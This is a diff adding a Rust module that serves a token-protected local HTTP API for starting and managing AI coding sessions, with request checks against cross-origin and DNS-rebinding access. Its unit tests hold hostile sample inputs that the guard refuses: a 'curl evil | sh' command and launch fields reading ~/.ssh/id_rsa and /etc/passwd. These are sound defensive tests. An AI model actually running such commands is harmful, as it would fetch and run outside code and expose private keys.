@@ -0,0 +1,611 @@
+use crate::environment::EnvValue;
+use crate::permissions::PermissionMode;
+use crate::{Launch, SessionManager, config, store, tmux};
+use anyhow::{Context, Result};
+use serde::{Deserialize, Serialize};
+use serde_json::{Value, json};
+use std::fs;
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::{SocketAddr, TcpListener};
+use std::os::unix::fs::{FileTypeExt, OpenOptionsExt};
+use std::os::unix::net::{UnixListener, UnixStream};
+use std::path::{Path, PathBuf};
+use std::thread;
+use std::time::Duration;
+
+/// Largest request body accepted
+const MAX_BODY: usize = 1 << 20;
+
+/// Default seconds between polls for the events stream
+const EVENTS_INTERVAL: u64 = 2;
+
+/// Where `ccx serve` listens
+#[derive(Debug, PartialEq, Eq)]
+pub enum Listen {
+    Tcp(SocketAddr),
+    Unix(PathBuf),
+}
+
+impl Listen {
+    /// A `host:port` address, or a Unix socket path (anything containing `/`)
+    pub fn parse(listen: &str) -> Result<Listen> {
+        if listen.contains('/') {
+            return Ok(Listen::Unix(crate::config::expand_tilde(listen)));
+        }
+        listen.parse().map(Listen::Tcp).with_context(|| {
+            format!(
+                "Invalid listen address '{}' (expected host:port or a socket path)",
+                listen
+            )
+        })
+    }
+}
+
+/// The bearer token clients must send, from ~/.ccx/server.token (created on first use,
+/// readable only by the user)
+pub fn token() -> Result<String> {
+    let path = config::ccx_home()?.join("server.token");
+    if let Ok(token) = fs::read_to_string(&path) {
+        return Ok(token.trim().to_string());
+    }
+    let mut bytes = [0u8; 32];
+    fs::File::open("/dev/urandom")
+        .and_then(|mut random| random.read_exact(&mut bytes))
+        .context("Failed to generate a token")?;
+    let token: String = bytes.iter().map(|b| format!("{:02x}", b)).collect();
+    fs::create_dir_all(config::ccx_home()?)?;
+    fs::OpenOptions::new()
+        .write(true)
+        .create_new(true)
+        .mode(0o600)
+        .open(&path)
+        .and_then(|mut file| file.write_all(token.as_bytes()))
+        .with_context(|| format!("Failed to write {}", path.display()))?;
+    Ok(token)
+}
+
+/// Serve the HTTP API until the process is killed, one thread per connection
+pub fn serve(listen: &str) -> Result<()> {
+    let token: &'static str = token()?.leak();
+    eprintln!("Clients must send the token in ~/.ccx/server.token as a bearer token");
+    match Listen::parse(listen)? {
+        Listen::Tcp(addr) => {
+            let listener =
+                TcpListener::bind(addr).with_context(|| format!("Failed to listen on {}", addr))?;
+            if !addr.ip().is_loopback() {
+                eprintln!(
+                    "Warning: {} is reachable from other hosts, and anyone who can reach it can start sessions",
+                    addr
+                );
+            }
+            println!("Listening on http://{}", addr);
+            for stream in listener.incoming() {
+                let stream = stream?;
+                thread::spawn(move || handle(stream, token));
+            }
+        }
+        Listen::Unix(path) => {
+            remove_stale_socket(&path)?;
+            let listener = UnixListener::bind(&path)
+                .with_context(|| format!("Failed to listen on {}", path.display()))?;
+            println!("Listening on {}", path.display());
+            for stream in listener.incoming() {
+                let stream = stream?;
+                thread::spawn(move || handle(stream, token));
+            }
+        }
+    }
+    Ok(())
+}
+
+/// Remove a socket file left by a server that is no longer running
+fn remove_stale_socket(path: &Path) -> Result<()> {
+    let Ok(metadata) = fs::symlink_metadata(path) else {
+        return Ok(());
+    };
+    if !metadata.file_type().is_socket() {
+        anyhow::bail!("{} exists and is not a socket", path.display());
+    }
+    if UnixStream::connect(path).is_ok() {
+        anyhow::bail!("Another server is already listening on {}", path.display());
+    }
+    fs::remove_file(path).with_context(|| format!("Failed to remove {}", path.display()))
+}
+
+/// A parsed HTTP request
+#[derive(Debug, Default)]
+struct Request {
+    method: String,
+    path: String,
+    query: Vec<(String, String)>,
+    /// Headers the server checks, with lowercased names
+    headers: Vec<(String, String)>,
+    body: Vec<u8>,
+}
+
+impl Request {
+    fn query<T: std::str::FromStr>(&self, key: &str) -> Option<T> {
+        self.query
+            .iter()
+            .find(|(k, _)| k == key)
+            .and_then(|(_, v)| v.parse().ok())
+    }
+
+    fn header(&self, name: &str) -> Option<&str> {
+        self.headers
+            .iter()
+            .find(|(n, _)| n == name)
+            .map(|(_, v)| v.as_str())
+    }
+}
+
+/// Read one request: the request line, headers, and a Content-Length body
+fn read_request(reader: &mut impl BufRead) -> Result<Request> {
+    let mut line = String::new();
+    reader.read_line(&mut line)?;
+    let mut parts = line.split_whitespace();
+    let (Some(method), Some(target)) = (parts.next(), parts.next()) else {
+        anyhow::bail!("Malformed request line");
+    };
+    let (path, query) = target.split_once('?').unwrap_or((target, ""));
+    let mut request = Request {
+        method: method.to_string(),
+        path: path.to_string(),
+        query: query
+            .split('&')
+            .filter(|pair| !pair.is_empty())
+            .map(|pair| {
+                let (key, value) = pair.split_once('=').unwrap_or((pair, ""));
+                (key.to_string(), value.to_string())
+            })
+            .collect(),
+        headers: Vec::new(),
+        body: Vec::new(),
+    };
+
+    let mut content_length = 0;
+    loop {
+        let mut header = String::new();
+        if reader.read_line(&mut header)? == 0 || header.trim().is_empty() {
+            break;
+        }
+        let Some((name, value)) = header.split_once(':') else {
+            continue;
+        };
+        let (name, value) = (name.trim().to_ascii_lowercase(), value.trim());
+        match name.as_str() {
+            "content-length" => {
+                content_length = value.parse().context("Invalid Content-Length")?;
+            }
+            "host" | "origin" | "content-type" | "authorization" => {
+                request.headers.push((name, value.to_string()));
+            }
+            _ => {}
+        }
+    }
+    if content_length > MAX_BODY {
+        anyhow::bail!("Request body is larger than {} bytes", MAX_BODY);
+    }
+    request.body = vec![0; content_length];
+    reader.read_exact(&mut request.body)?;
+    Ok(request)
+}
+
+/// A JSON response, or an empty one
+#[derive(Debug)]
+struct Response {
+    status: u16,
+    body: Option<Value>,
+}
+
+impl Response {
+    fn json(status: u16, body: impl Serialize) -> Response {
+        match serde_json::to_value(body) {
+            Ok(body) => Response {
+                status,
+                body: Some(body),
+            },
+            Err(e) => Response::error(500, &e.into()),
+        }
+    }
+
+    fn empty() -> Response {
+        Response {
+            status: 204,
+            body: None,
+        }
+    }
+
+    fn error(status: u16, error: &anyhow::Error) -> Response {
+        Response {
+            status,
+            body: Some(json!({ "error": format!("{:#}", error) })),
+        }
+    }
+
+    fn from_result<T: Serialize>(status: u16, result: Result<T>) -> Response {
+        match result {
+            Ok(body) => Response::json(status, body),
+            Err(e) => Response::error(400, &e),
+        }
+    }
+}
+
+fn reason(status: u16) -> &'static str {
+    match status {
+        200 => "OK",
+        201 => "Created",
+        204 => "No Content",
+        400 => "Bad Request",
+        401 => "Unauthorized",
+        403 => "Forbidden",
+        404 => "Not Found",
+        415 => "Unsupported Media Type",
+        _ => "Internal Server Error",
+    }
+}
+
+fn write_response(stream: &mut impl Write, response: &Response) -> Result<()> {
+    let body = match &response.body {
+        Some(body) => serde_json::to_string(body)? + "\n",
+        None => String::new(),
+    };
+    write!(
+        stream,
+        "HTTP/1.1 {} {}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{}",
+        response.status,
+        reason(response.status),
+        body.len(),
+        body
+    )?;
+    stream.flush()?;
+    Ok(())
+}
+
+/// Whether a Host header names this machine's loopback interface
+fn is_loopback_host(host: &str) -> bool {
+    let name = match host.strip_prefix('[') {
+        Some(rest) => rest.split(']').next().unwrap_or_default(),
+        None => host.split(':').next().unwrap_or_default(),
+    };
+    name.eq_ignore_ascii_case("localhost")
+        || name
+            .parse::<std::net::IpAddr>()
+            .is_ok_and(|ip| ip.is_loopback())
+}
+
+/// Refuse requests a web page could have made: cross-origin ones, ones through a
+/// rebound DNS name, and bodies a form can send without a preflight. Then check the
+/// bearer token.
+fn check_request(request: &Request, token: &str) -> Result<(), Response> {
+    let refuse =
+        |status, message: &str| Err(Response::error(status, &anyhow::anyhow!("{}", message)));
+    if request.header("origin").is_some() {
+        return refuse(403, "Cross-origin requests are not accepted");
+    }
+    if let Some(host) = request.header("host")
+        && !is_loopback_host(host)
+    {
+        return refuse(403, "The Host header must name localhost");
+    }
+    if request
+        .header("authorization")
+        .and_then(|v| v.strip_prefix("Bearer "))
+        != Some(token)
+    {
+        return refuse(
+            401,
+            "Missing or wrong bearer token (see ~/.ccx/server.token)",
+        );
+    }
+    let is_json = request
+        .header("content-type")
+        .and_then(|v| v.split(';').next())
+        .is_some_and(|v| v.trim().eq_ignore_ascii_case("application/json"));
+    if request.method == "POST" && !request.body.is_empty() && !is_json {
+        return refuse(415, "Request bodies must be sent as application/json");
+    }
+    Ok(())
+}
+
+/// Serve one request on a connection, then close it
+fn handle(mut stream: impl Read + Write, token: &str) {
+    let request = match read_request(&mut BufReader::new(&mut stream)) {
+        Ok(request) => request,
+        Err(e) => {
+            let _ = write_response(&mut stream, &Response::error(400, &e));
+            return;
+        }
+    };
+    if let Err(response) = check_request(&request, token) {
+        let _ = write_response(&mut stream, &response);
+        return;
+    }
+    let manager = SessionManager::new();
+    let result = if request.method == "GET" && request.path == "/events" {
+        stream_events(&mut stream, &manager, &request)
+    } else {
+        write_response(&mut stream, &route(&manager, &request))
+    };
+    if let Err(e) = result {
+        eprintln!("{} {}: {:#}", request.method, request.path, e);
+    }
+}
+
+/// Send each session change as a server-sent event until the client disconnects
+fn stream_events(
+    stream: &mut impl Write,
+    manager: &SessionManager,
+    request: &Request,
+) -> Result<()> {
+    let interval = Duration::from_secs(request.query("interval").unwrap_or(EVENTS_INTERVAL).max(1));
+    write!(
+        stream,
+        "HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nCache-Control: no-cache\r\nConnection: close\r\n\r\n"
+    )?;
+    stream.flush()?;
+    for event in manager.watch(interval) {
+        let event = serde_json::to_value(event?)?;
+        let name = event
+            .get("event")
+            .and_then(Value::as_str)
+            .unwrap_or("message");
+        write!(stream, "event: {}\ndata: {}\n\n", name, event)?;
+        stream.flush()?;
+    }
+    Ok(())
+}
+
+/// `ccx start` flags that are not part of [`Launch`]
+#[derive(Debug, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+struct StartFlags {
+    headless: bool,
+    no_verify: bool,
+    start_timeout: Option<u64>,
+    retries: Option<u32>,
+    permissions: Option<PermissionMode>,
+}
+
+const START_FLAGS: &[&str] = &[
+    "headless",
+    "no_verify",
+    "start_timeout",
+    "retries",
+    "permissions",
+];
+
+/// Split a start request into its launch and its start flags
+fn parse_start(request: Value) -> Result<(Launch, StartFlags)> {
+    let Value::Object(mut fields) = request else {
+        anyhow::bail!("Expected a JSON object");
+    };
+    let flags: serde_json::Map<String, Value> = START_FLAGS
+        .iter()
+        .filter_map(|key| fields.remove_entry(*key))
+        .collect();
+    Ok((
+        serde_json::from_value(Value::Object(fields))?,
+        serde_json::from_value(Value::Object(flags))?,
+    ))
+}
+
+/// Refuse launch fields that read files or run commands on the host. Requests come
+/// from other programs and agents, which must not get more than a prompt can ask for.
+fn check_launch(launch: &Launch) -> Result<()> {
+    if let Some((key, _)) = launch
+        .env
+        .iter()
+        .find(|(_, value)| !matches!(value, EnvValue::Plain(_)))
+    {
+        anyhow::bail!(
+            "env.{}: only plain values are accepted here, not files or commands",
+            key
+        );
+    }
+    let refused = [
+        ("env_files", !launch.env_files.is_empty()),
+        ("verify", launch.verify.is_some()),
+        ("mcp_config", launch.mcp_config.is_some()),
+        (
+            "append_system_prompt_file",
+            launch.append_system_prompt_file.is_some(),
+        ),
+    ];
+    if let Some((field, _)) = refused.iter().find(|(_, set)| *set) {
+        anyhow::bail!(
+            "'{}' is not accepted here; use ccx start or ccx's config files",
+            field
+        );
+    }
+    Ok(())
+}
+
+/// Start a session from a JSON object of [`Launch`] fields and `ccx start` flags
+pub(crate) fn start(manager: &SessionManager, request: Value) -> Result<crate::Session> {
+    let (launch, flags) = parse_start(request)?;
+    check_launch(&launch)?;
+    let mut opts = launch.prepare()?;
+    opts.headless = flags.headless;
+    opts.no_verify = flags.no_verify;
+    opts.start_timeout = flags.start_timeout;
+    opts.start_retries = flags.retries;
+    opts.permissions = flags.permissions;
+    manager.start_with(opts)
+}
+
+/// A session the API can address: live in tmux or with a record
+fn exists(name: &str) -> bool {
+    tmux::session_exists(name) || store::load(name).ok().flatten().is_some()
+}
+
+fn route(manager: &SessionManager, request: &Request) -> Response {
+    let segments: Vec<&str> = request.path.trim_matches('/').split('/').collect();
+    let method = request.method.as_str();
+    match (method, segments.as_slice()) {
+        ("GET", ["sessions"]) => Response::from_result(200, manager.list()),
+        ("POST", ["sessions"]) => Response::from_result(
+            201,
+            serde_json::from_slice(&request.body)
+                .context("Invalid JSON body")
+                .and_then(|body| start(manager, body)),
+        ),
+        (_, ["sessions", name, ..]) if !exists(name) => {
+            Response::error(404, &anyhow::anyhow!("Session '{}' does not exist", name))
+        }
+        ("GET", ["sessions", name]) => Response::from_result(200, manager.get(name)),
+        ("GET", ["sessions", name, "output"]) => {
+            let lines = request.query("lines").unwrap_or(10);
+            Response::from_result(
+                200,
+                manager
+                    .output(name, lines)
+                    .map(|output| json!({ "output": output })),
+            )
+        }
+        ("POST", ["sessions", name, "send"]) => {
+            #[derive(Deserialize)]
+            struct Send {
+                message: String,
+            }
+            let result = serde_json::from_slice::<Send>(&request.body)
+                .context("Expected {\"message\": \"...\"}")
+                .and_then(|send| manager.send(name, &send.message));
+            match result {
+                Ok(()) => Response::empty(),
+                Err(e) => Response::error(400, &e),
+            }
+        }
+        ("POST", ["sessions", name, "stop"]) if request.query("recursive") == Some(true) => {
+            Response::from_result(
+                200,
+                manager
+                    .stop_recursive(name)
+                    .map(|stopped| json!({ "stopped": stopped })),
+            )
+        }
+        ("POST", ["sessions", name, "stop"]) => match manager.stop(name) {
+            Ok(()) => Response::empty(),
+            Err(e) => Response::error(400, &e),
+        },
+        _ => Response::error(
+            404,
+            &anyhow::anyhow!("No route for {} {}", method, request.path),
+        ),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_listen_parse() {
+        assert_eq!(
+            Listen::parse("127.0.0.1:7777").unwrap(),
+            Listen::Tcp("127.0.0.1:7777".parse().unwrap())
+        );
+        assert_eq!(
+            Listen::parse("/tmp/ccx.sock").unwrap(),
+            Listen::Unix(PathBuf::from("/tmp/ccx.sock"))
+        );
+        assert!(Listen::parse("localhost").is_err());
+    }
+
+    #[test]
+    fn test_read_request() {
+        let raw = "POST /sessions/s1/send?lines=5&x HTTP/1.1\r\nHost: localhost\r\n\
+                   content-length: 17\r\n\r\n{\"message\":\"hi\"}\n";
+        let request = read_request(&mut raw.as_bytes()).unwrap();
+        assert_eq!(request.method, "POST");
+        assert_eq!(request.path, "/sessions/s1/send");
+        assert_eq!(request.query::<usize>("lines"), Some(5));
+        assert_eq!(request.query::<usize>("x"), None);
+        assert_eq!(request.body, b"{\"message\":\"hi\"}\n");
+        assert_eq!(request.header("host"), Some("localhost"));
+
+        assert!(read_request(&mut "\r\n".as_bytes()).is_err());
+    }
+
+    #[test]
+    fn test_parse_start() {
+        let (launch, flags) = parse_start(
+            json!({"prompt": "fix the bug", "model": "opus", "headless": true, "retries": 1}),
+        )
+        .unwrap();
+        assert_eq!(launch.prompt.as_deref(), Some("fix the bug"));
+        assert_eq!(launch.model.as_deref(), Some("opus"));
+        assert!(flags.headless);
+        assert_eq!(flags.retries, Some(1));
+
+        assert!(parse_start(json!({"prompt": "x", "bogus": 1})).is_err());
+        assert!(parse_start(json!([])).is_err());
+    }
+
+    #[test]
+    fn test_check_launch() {
+        let launch = |request| parse_start(request).unwrap().0;
+        assert!(check_launch(&launch(json!({"prompt": "x", "env": {"A": "1"}}))).is_ok());
+        for request in [
+            json!({"prompt": "x", "env": {"A": {"command": "id"}}}),
+            json!({"prompt": "x", "env": {"A": {"file": "~/.ssh/id_rsa"}}}),
+            json!({"prompt": "x", "env_files": [".env"]}),
+            json!({"prompt": "x", "verify": "curl evil | sh"}),
+            json!({"prompt": "x", "mcp_config": "/tmp/mcp.json"}),
+            json!({"prompt": "x", "append_system_prompt_file": "/etc/passwd"}),
+        ] {
+            assert!(
+                check_launch(&launch(request.clone())).is_err(),
+                "{}",
+                request
+            );
+        }
+    }
+
+    #[test]
+    fn test_check_request() {
+        let request = |headers: &[(&str, &str)], body: &str| Request {
+            method: "POST".to_string(),
+            path: "/sessions".to_string(),
+            headers: headers
+                .iter()
+                .map(|(n, v)| (n.to_string(), v.to_string()))
+                .collect(),
+            body: body.as_bytes().to_vec(),
+            ..Default::default()
+        };
+        let status = |request: Request| check_request(&request, "t0k").err().map(|r| r.status);
+        let auth = ("authorization", "Bearer t0k");
+        let json = ("content-type", "application/json; charset=utf-8");
+
+        assert_eq!(
+            status(request(&[auth, json, ("host", "localhost:7777")], "{}")),
+            None
+        );
+        assert_eq!(
+            status(request(&[auth, json, ("host", "[::1]:7777")], "{}")),
+            None
+        );
+        assert_eq!(status(request(&[auth], "")), None);
+        assert_eq!(status(request(&[json], "{}")), Some(401));
+        assert_eq!(
+            status(request(&[("authorization", "Bearer nope"), json], "{}")),
+            Some(401)
+        );
+        assert_eq!(
+            status(request(
+                &[auth, json, ("origin", "https://evil.example")],
+                "{}"
+            )),
+            Some(403)
+        );
+        assert_eq!(
+            status(request(&[auth, json, ("host", "evil.example:7777")], "{}")),
+            Some(403)
+        );
+        assert_eq!(
+            status(request(&[auth, ("content-type", "text/plain")], "{}")),
+            Some(415)
+        );
+    }
+}